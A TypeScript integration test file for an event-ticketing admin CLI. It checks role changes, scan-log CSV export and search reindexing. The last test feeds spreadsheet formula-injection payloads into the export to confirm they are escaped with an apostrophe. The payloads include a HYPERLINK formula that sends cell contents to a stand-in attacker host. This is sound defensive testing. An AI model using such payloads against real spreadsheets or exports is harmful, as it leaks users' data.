/**
 * Issue 11 in the admin CLI: `org set-role`, `scanlog export` (CSV, parsed back with csv-parse) and
 * `tickets reindex-search`, on a real database.
 */
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { memberships, tickets, ticketSearchTerms, users } from '../../src/db/schema.ts';
import { findEvent } from '../../src/services/events.ts';
import { searchAttendees } from '../../src/services/attendee-search.ts';
import { undoCheckIn } from '../../src/services/check-ins/manual.ts';
import { verifyTicket } from '../../src/services/check-ins/verify.ts';
import { createCliFixture, idIn, type CliFixture } from './cli-harness.ts';

let cli: CliFixture;
let eventId: string;
let gateUserId: string;
const NOON_ON_DAY_ONE = new Date('2026-12-01T12:00:00Z');

beforeAll(async () => {
  cli = await createCliFixture();
  await cli.ok('user', 'create', '--email', 'gate@example.com', '--username', 'gate', '--name', 'Gale Gate', '--password', 'gate-staff-pass');
  await cli.ok('user', 'create', '--email', 'lone@example.com', '--username', 'lone', '--name', 'Lone Wolf', '--password', 'lone-wolf-pass');
  await cli.ok('org', 'create', '--name', 'Northwind Live');
  await cli.ok('org', 'add-member', '--org', 'Northwind Live', '--user', 'gate', '--role', 'staff');
  eventId = idIn(await cli.ok('event', 'create', '--org', 'Northwind Live', '--title', 'Harbour Lights', '--date', '2026-12-01', '--status', 'live'));
  await writeFile(path.join(cli.dir, 'tickets.csv'), 'code,holder_name,ticket_type,days\nHL-1,Zoë Ångström,VIP,all\nHL-2,"Renée, Jr",Day Pass,all\n');
  await cli.ok('tickets', 'import', '--event', eventId, 'tickets.csv');
  const [gate] = await cli.database.db.select({ id: users.id }).from(users).where(eq(users.username, 'gate'));
  gateUserId = gate?.id ?? '';
});
afterAll(async () => {
  await cli.close();
});

test('org set-role changes a member\'s role, says when nothing changed, and refuses a non-member or an unknown role', async () => {
  expect(await cli.ok('org', 'set-role', '--org', 'northwind live', '--user', 'gate', '--role', 'supervisor')).toMatch(
    /Changed gate's role in "Northwind Live" from staff to supervisor/,
  );
  expect(await cli.ok('org', 'set-role', '--org', 'Northwind Live', '--user', 'gate@example.com', '--role', 'supervisor')).toMatch(/gate is already supervisor/);
  const [row] = await cli.database.db.select({ role: memberships.role }).from(memberships).where(eq(memberships.userId, gateUserId));
  expect(row?.role).toBe('supervisor');

  const notMember = await cli.run('org', 'set-role', '--org', 'Northwind Live', '--user', 'lone', '--role', 'admin');
  expect(notMember.exitCode).toBe(1);
  expect(notMember.stderr).toBe('error: This person is not a member of Northwind Live.\n');
  const badRole = await cli.run('org', 'set-role', '--org', 'Northwind Live', '--user', 'gate', '--role', 'owner');
  expect(badRole.exitCode).toBe(1);
  expect(badRole.stderr).toMatch(/Allowed choices are staff, supervisor, admin/);
  const noRole = await cli.run('org', 'set-role', '--org', 'Northwind Live', '--user', 'gate');
  expect(noRole.exitCode).toBe(1);
  expect(noRole.stderr).toMatch(/--role <role>' not specified/);
});

test('scanlog export writes every verify and undo as CSV, oldest first, filtered by verdict or day', async () => {
  const db = cli.database.db;
  const event = await findEvent(db, eventId);
  const scanner = { userId: gateUserId };
  await verifyTicket(db, scanner, { eventId, qrCode: 'hl-1', day: 1 }, NOON_ON_DAY_ONE);
  await verifyTicket(db, scanner, { eventId, qrCode: 'HL-1', day: 1 }, NOON_ON_DAY_ONE);
  const [ticket] = await db.select({ id: tickets.id }).from(tickets).where(eq(tickets.code, 'HL-1'));
  await undoCheckIn(db, scanner, event, { ticketId: ticket?.id ?? '', day: 1, reason: 'Wrong guest, "oops", sorry' });
  await verifyTicket(db, scanner, { eventId, qrCode: 'NOPE', day: 1 }, NOON_ON_DAY_ONE);
  // The undone check-in no longer counts.
  expect(JSON.parse(await cli.ok('checkins', 'count', '--event', eventId, '--json')).days[0]).toMatchObject({ day: 1, checkedIn: 0, admitted: 2 });
  await verifyTicket(db, scanner, { eventId, qrCode: 'HL-2', day: 1 }, NOON_ON_DAY_ONE);

  expect(await cli.ok('scanlog', 'export', '--event', eventId, '--out', 'log.csv')).toMatch(/Wrote 5 scan log entries of "Harbour Lights" to .*log\.csv/);
  const rows = parse(await readFile(path.join(cli.dir, 'log.csv'), 'utf8'), { columns: true }) as Array<Record<string, string>>;
  expect(rows.map((row) => [row.code, row.verdict, row.reason, row.source, row.user, row.day])).toEqual([
    ['hl-1', 'approved', '', 'scan', 'Gale Gate', '1'],
    ['HL-1', 'denied', 'already_checked_in', 'scan', 'Gale Gate', '1'],
    ['HL-1', 'undone', 'Wrong guest, "oops", sorry', 'undo', 'Gale Gate', '1'],
    ['NOPE', 'denied', 'not_found', 'scan', 'Gale Gate', '1'],
    ['HL-2', 'approved', '', 'scan', 'Gale Gate', '1'],
  ]);
  expect(Object.keys(rows[0] ?? {})).toEqual(['at', 'day', 'user', 'code', 'verdict', 'reason', 'source', 'sent_by', 'received_at']);
  // Online scans are received when they are made; an offline one's differ (decision 088, test/offline-check-in.test.ts).
  expect(rows.every((row) => row.received_at === row.at)).toBe(true);
  // Nobody sent these for a colleague (decision 077's offline scans: test/offline-check-in.test.ts).
  expect(rows.map((row) => row.sent_by)).toEqual(['', '', '', '', '']);
  expect(rows.every((row) => !Number.isNaN(Date.parse(row.at ?? '')))).toBe(true);

  const denied = parse(await cli.ok('scanlog', 'export', '--event', eventId, '--verdict', 'denied'), { columns: true }) as Array<Record<string, string>>;
  expect(denied.map((row) => row.code)).toEqual(['HL-1', 'NOPE']);
  const dayTwo = parse(await cli.ok('scanlog', 'export', '--event', eventId, '--day', '2'), { columns: true }) as unknown[];
  expect(dayTwo).toEqual([]);
  const unknown = await cli.run('scanlog', 'export', '--event', '00000000-0000-4000-8000-000000000000');
  expect(unknown.exitCode).toBe(1);
  expect(unknown.stderr).toMatch(/^error: No event with id/);
});

test('tickets reindex-search refolds terms written by the migration (lower case only) with accents removed', async () => {
  const db = cli.database.db;
  const event = await findEvent(db, eventId);
  // What migration 0003 writes for an existing ticket: lower(holder_name) suffixes, accents kept.
  await db.delete(ticketSearchTerms);
  await db.execute(sql`insert into ticket_search_terms (ticket_id, event_id, term) select id, event_id, lower(holder_name) from tickets`);
  expect((await searchAttendees(db, event, 'zoe', { day: 1 })).attendees).toEqual([]);
  expect(await cli.ok('tickets', 'reindex-search')).toMatch(/Reindexed the search terms of 2 tickets/);
  expect((await searchAttendees(db, event, 'zoe', { day: 1 })).attendees.map((attendee) => attendee.code)).toEqual(['HL-1']);
  expect((await searchAttendees(db, event, 'angstr', { day: 1 })).attendees.map((attendee) => attendee.code)).toEqual(['HL-1']);
  expect((await searchAttendees(db, event, 'hl-', { day: 1 })).attendees.map((attendee) => attendee.code)).toEqual(['HL-2', 'HL-1']);
});

test('scanlog export writes scanned text, names and reasons that a spreadsheet would run as formulas as text, with a leading apostrophe', async () => {
  const db = cli.database.db;
  const formulaEventId = idIn(await cli.ok('event', 'create', '--org', 'Northwind Live', '--title', 'Formula Night', '--date', '2026-12-01', '--status', 'live'));
  const event = await findEvent(db, formulaEventId);
  await writeFile(path.join(cli.dir, 'formula-tickets.csv'), 'code,holder_name,ticket_type,days\nFN-1,+Plus Holder,VIP,all\n');
  await cli.ok('tickets', 'import', '--event', formulaEventId, 'formula-tickets.csv');
  // Codes start with a letter or digit, but scanned text is anything; a display name is the user's own text (sign-up), and so is an undo's reason.
  await cli.ok('user', 'create', '--email', 'formula@example.com', '--username', 'formula', '--name', '=1+1', '--password', 'formula-pass-1');
  await cli.ok('org', 'add-member', '--org', 'Northwind Live', '--user', 'formula', '--role', 'supervisor');
  const [formulaUser] = await db.select({ id: users.id }).from(users).where(eq(users.username, 'formula'));
  const scanner = { userId: formulaUser?.id ?? '' };
  const scanned = ['=HYPERLINK("https://evil.example/?leak="&B2&C2,"Click")', '+1+2', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\uFF1D1+1', '-FN-1'];
  for (const qrCode of [...scanned, 'FN-1']) await verifyTicket(db, scanner, { eventId: formulaEventId, qrCode, day: 1 }, NOON_ON_DAY_ONE);
  const [ticket] = await db.select({ id: tickets.id }).from(tickets).where(eq(tickets.code, 'FN-1'));
  await undoCheckIn(db, scanner, event, { ticketId: ticket?.id ?? '', day: 1, reason: '-wrong guest' });

  await cli.ok('scanlog', 'export', '--event', formulaEventId, '--out', 'formulas.csv');
  const cells = parse(await readFile(path.join(cli.dir, 'formulas.csv'), 'utf8')) as string[][];
  const startsLikeAFormula = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
  expect(cells.flat().filter((cell) => startsLikeAFormula.test(cell))).toEqual([]);
  const rows = parse(await readFile(path.join(cli.dir, 'formulas.csv'), 'utf8'), { columns: true }) as Array<Record<string, string>>;
  // Kept whole after the apostrophe: the organizer still reads what was scanned.
  expect(rows.map((row) => row.code)).toEqual([...scanned.map((text) => `'${text}`), 'FN-1', 'FN-1']);
  expect(new Set(rows.map((row) => row.user))).toEqual(new Set(["'=1+1"]));
  expect(rows.at(-1)?.reason).toBe("'-wrong guest");
  expect(rows.map((row) => row.verdict).slice(-2)).toEqual(['approved', 'undone']);
});
